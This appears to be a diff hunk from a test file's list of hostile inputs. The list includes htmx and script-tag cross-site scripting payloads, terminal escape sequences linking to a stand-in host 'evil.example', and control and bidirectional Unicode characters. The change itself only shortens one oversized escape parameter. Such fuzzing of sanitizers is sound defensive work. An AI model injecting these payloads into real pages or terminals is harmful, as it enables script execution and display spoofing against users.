@@ -31,7 +31,7 @@ PAYLOADS = (
     "<div hx-get='http://evil.example' hx-trigger='load' hx-swap='outerHTML'></div>",
     "<div hx-on:load='alert(1)' hx-vals='js:{x: alert(1)}' data-hx-get='/runs'></div>",
     "<template><script>alert(1)</script></template><math><mtext><script>alert(1)</script></mtext></math>",
-    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x1b[31;1mred\x1b[0m \x1b[38;2;1;2;3mrgb\x1b[999999999m",
+    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 \x1b[31;1mred\x1b[0m \x1b[38;2;1;2;3mrgb\x1b[99999999m",
     "\x1b[<script>alert(1)</script>m \x9b31m \x1b",
     "\x00\x01\x02\x08\x0b\x0c\x7f\x80\x9f\u202e\u2066abc\u2069\u200b\ufeff\U000e0041",
     "\ud800 lone \udfff surrogates",
